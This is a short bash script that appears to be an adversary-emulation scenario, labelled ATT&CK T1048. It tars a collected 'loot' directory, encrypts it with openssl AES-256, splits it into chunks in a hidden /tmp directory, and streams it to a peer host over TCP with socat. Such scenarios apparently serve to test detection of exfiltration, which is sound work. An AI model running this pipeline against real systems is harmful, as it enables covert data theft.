#!/usr/bin/env bash
# Staging + exfiltration: tar | openssl enc -aes-256-cbc, split into 16 KiB chunks in a hidden
# directory, then the chunks streamed to the peer with socat.
. "$(dirname "$0")/../lib.sh"
scn_begin exfil-openssl-split-socat T1048
scn_require tar openssl split socat
scn_sink_peer 9004
scn_loot
scn_tmpdir stage /tmp .scn-stage-
tar -C "$SCN_LOOT" -cf - . | openssl enc -aes-256-cbc -pbkdf2 -pass pass:scn -out "$stage/blob.enc"
split -b 16k "$stage/blob.enc" "$stage/part-"
cat "$stage"/part-* >"$stage/all"
scn_run_key socat -u "OPEN:$stage/all" "TCP:$SCN_PEER:9004"
scn_wait_size "$SCN_SINK" "$(stat -c %s "$stage/blob.enc")" || scn_fail "the peer did not get every chunk"
